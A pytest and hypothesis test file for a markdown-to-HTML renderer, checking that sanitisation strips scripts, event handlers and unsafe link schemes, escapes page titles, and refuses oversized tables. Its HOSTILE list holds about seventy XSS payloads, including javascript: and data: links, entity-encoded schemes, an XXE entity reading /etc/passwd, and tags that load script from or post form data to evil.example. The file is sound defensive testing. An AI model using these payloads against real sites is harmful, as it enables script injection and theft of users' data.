from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from functions.errors import Invalid
from functions.policies.rendering import SCHEMES, page, rendered

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=card></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style=position:fixed>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=https://a.example onclick=alert(1)>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "</main></body><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example "\\"><script>alert(1)</script>")',
    '[x](https://a.example"onclick="alert(1))',
    "[x](https://a.example'onclick='alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "<javascript:alert(1)>",
    "<https://a.example/?<script>>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://a.example 'a\" onclick=\"alert(1)'\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    '```" onload="alert(1)\n<script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|:-:|--:|\n| <script> | ~~<b onclick=1>~~ |",
    "> <img src=x onerror=alert(1)>",
    "1. <svg/onload=alert(1)>",
    "99999999999. x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "<a href='ht\x00tps://a.example'>x</a>",
    "[x](https&#58;//a.example)",
    "<details><summary>{language}{title}{body}</summary>",
]

RELATIVE = [
    "/path", "path", "../up", "?query", "#fragment", "//evil.example/x", "\\\\evil.example", "/\\evil.example", "https:path",
    "https:/path",
    "HTTPS:path", "http:\\evil.example", "mailto", "javascript:alert(1)", "ftp://a.example/x", "intent://x", "tel", "%68ttps://a.example",
]  # fmt: skip

HARMLESS = {
    *(
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "br",
        "hr",
        "ul",
        "ol",
        "li",
        "blockquote",
        "strong",
        "em",
        "s",
        "a",
        "code",
        "pre",
    ),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}


class Seen(HTMLParser):
    """Every tag with its attributes, as a browser would read them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    @property
    def links(self) -> list[str]:
        return [attributes["href"] or "" for _, attributes in self.tags if "href" in attributes]


def harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.others == []
    for tag, attributes in seen.tags:
        assert tag in HARMLESS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        assert tag != "a" or attributes.get("rel") == "noopener noreferrer"
    assert all(link.lower().startswith(("https://", "http://", "mailto:", "tel:")) for link in seen.links)


@pytest.mark.parametrize("markdown", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_survives(markdown: str) -> None:
    harmless(rendered(markdown))


def test_the_table_of_hostile_texts_is_not_a_short_one() -> None:
    assert len(set(HOSTILE)) >= 60


@settings(deadline=None, max_examples=150)
@given(
    st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8) | st.sampled_from(list("<>[]()!\"'`\n &;:/\\")), max_size=8).map(
        "".join
    )
)
def test_nothing_hostile_survives_in_any_mixture(markdown: str) -> None:
    harmless(rendered(markdown))


@pytest.mark.parametrize("target", RELATIVE)
def test_a_link_that_is_not_absolute_loses_its_target_and_keeps_its_words(target: str) -> None:
    html = rendered(f"[the words](<{target}>)")

    assert Seen(html).links == []
    assert "the words" in html


@pytest.mark.parametrize(
    "target", ["https://a.example/x?y=1&z=2#q", "http://a.example", "HTTPS://A.example/", "mailto:a@a.example", "tel:+359888"]
)
def test_an_absolute_link_survives(target: str) -> None:
    assert [link.lower() for link in Seen(rendered(f"[x]({target})")).links] == [target.lower()]


def test_schemes_of_links_are_those_that_survive() -> None:
    assert {"https", "http", "mailto", "tel"} == SCHEMES


def test_what_a_document_needs_is_rendered() -> None:
    blocks = ["# Условия", "A **strong** *text*, ~~struck~~.", "- one\n- two", "3. three", "> quoted", "`code`", "---"]
    markdown = "\n\n".join([*blocks, "| a | b |\n|---|---|\n| 1 | 2 |"])

    html = rendered(markdown)

    assert "<h1>Условия</h1>" in html
    assert '<ol start="3">' in html
    for tag in ("strong", "em", "s", "ul", "li", "blockquote", "table", "th", "td", "code", "hr"):
        assert f"<{tag}>" in html


def test_html_in_the_markdown_is_text() -> None:
    assert rendered("a <b>bold</b> claim") == "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>"


def test_the_same_text_is_the_same_bytes_every_time() -> None:
    markdown = "[a](https://a.example 'b') " * 50

    assert page(markdown, title="T", language="bg") == page(markdown, title="T", language="bg")


@pytest.mark.parametrize(
    "title", ["</title><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{body}", "&amp;", "Tom & Ann's"]
)
def test_a_page_shows_its_title_as_text(title: str) -> None:
    html = page("text", title=title, language="bg")

    assert Seen(html).tags == Seen(page("text", title="Terms", language="bg")).tags
    assert f"<title>{escape(title)}</title>" in html


def test_a_page_says_its_language_and_needs_no_script() -> None:
    html = page("Текст", title="Т", language='bg" onload="x')

    assert html.startswith("<!doctype html>\n")
    assert dict(Seen(html).tags)["html"] == {"lang": 'bg" onload="x'}
    assert "<p>Текст</p>" in html
    assert "script" not in html


def test_braces_in_a_text_stay_braces() -> None:
    assert "<p>{title} {language} {0}</p>" in page("{title} {language} {0}", title="T", language="en")


@pytest.mark.parametrize(
    "text",
    [
        "|" * 1000 + "\n" + "|-" * 1000 + "|\n" + "|a\n" * 1500,
        ("|" * 300 + "\n" + "|-" * 300 + "|\n" + "|a\n" * 100 + "\n") * 10,
    ],
)
def test_a_table_that_would_fill_the_memory_is_refused(text: str) -> None:
    with pytest.raises(Invalid, match="too large"):
        rendered(text)


def test_a_large_table_that_somebody_could_read_is_rendered() -> None:
    text = "| a | b | c |\n|---|---|---|\n" + "| 1 | 2 | 3 |\n" * 3000

    assert rendered(text).count("<tr>") == 3001
